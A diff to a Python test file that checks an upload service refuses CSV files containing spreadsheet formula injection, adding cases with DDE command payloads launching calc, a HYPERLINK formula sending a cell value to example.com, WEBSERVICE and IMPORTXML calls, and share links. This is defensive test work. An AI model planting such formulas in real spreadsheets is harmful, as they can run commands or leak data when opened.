@@ -162,6 +162,55 @@ REFUSALS = [
         uploads.CSV_ENCODING,
         id="csv-latin-1",
     ),
+    # Formulas that act when the file is opened in a spreadsheet, named by cell.
+    pytest.param(
+        "grades.csv",
+        b'force,grade\nKent,"=HYPERLINK(""https://example.com/?""&B1,""Kent"")"\n',
+        uploads.CSV_FORMULA.format(cell="B2"),
+        id="csv-hyperlink",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"force,grade\r\nKent,good\r\nEssex,=cmd|' /C calc'!A0\r\n",
+        uploads.CSV_FORMULA.format(cell="B3"),
+        id="csv-dde",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"force,grade\n,\n  \t-2+cmd|' /C calc'!A0,good\n",
+        uploads.CSV_FORMULA.format(cell="A3"),
+        id="csv-dde-after-a-blank-row-and-spaces",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"force,grade\nKent,@SUM(1+1)\n",
+        uploads.CSV_FORMULA.format(cell="B2"),
+        id="csv-at-function",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"force,grade\nKent,+'\\\\server\\share\\[book.xlsx]Sheet1'!A1\n",
+        uploads.CSV_FORMULA.format(cell="B2"),
+        id="csv-link-to-a-file-on-a-share",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'\xef\xbb\xbfsep=;\r\nforce;grade\r\nKent;=WEBSERVICE("https://x")\r\n',
+        uploads.CSV_FORMULA.format(cell="B2"),
+        id="csv-excel-separator-line",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"force," + b"grade," * 26 + b'"=IMPORTXML(1)"\n',
+        uploads.CSV_FORMULA.format(cell="AB1"),
+        id="csv-column-after-z",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'force,grade\n"Kent,' + b"x" * 140_000 + b"\nEssex,=cmd|' /C calc'!A0\n",
+        uploads.CSV_UNREADABLE,
+        id="csv-quote-never-closed",
+    ),
 ]
 
 
@@ -174,6 +223,33 @@ def test_refused_files_store_nothing(private_storage, inspector, name, content, 
     assert error.value.messages == [message]
     assert stored_paths(private_storage) == []
     assert not StoredFile.objects.exists()
+
+
+def test_csv_values_that_cannot_act_are_kept(private_storage, inspector):
+    content = (
+        b"force,change,phone,note,handle,sum\n"
+        b"Kent,-5,+44 20 7946 0000,- none,@kentpolice,=1+1\n"
+        b'Essex,+3.5%,-,"A=B(1), see |notes|",@,"2,-(3)"\n'
+    )
+    stored = uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
+    assert (private_storage / stored.storage_name).read_bytes() == content
+
+
+def test_a_csv_the_service_reads_itself_is_not_judged_by_its_cells(private_storage, inspector):
+    """A case list is read by the import, which names bad rows itself, and is
+    never downloaded: neither a formula nor a quote never closed stops it here."""
+    from casefiles.forms import CaseListUploadForm
+
+    content = (
+        b"case_reference,category,date_recorded\n"
+        b'A1,=HYPERLINK("x"),1/1/2026\n"A2,' + b"x" * 140_000 + b"\n"
+    )
+    form = CaseListUploadForm(files={"case_list": files.upload("cases.csv", content)})
+    assert form.is_valid(), form.errors
+    stored = uploads.store_upload(
+        files.upload("cases.csv", content), by=inspector, kinds=["csv"], served=False
+    )
+    assert stored.size == len(content)
 
 
 def test_zip_bomb_is_judged_without_inflating_it(monkeypatch):
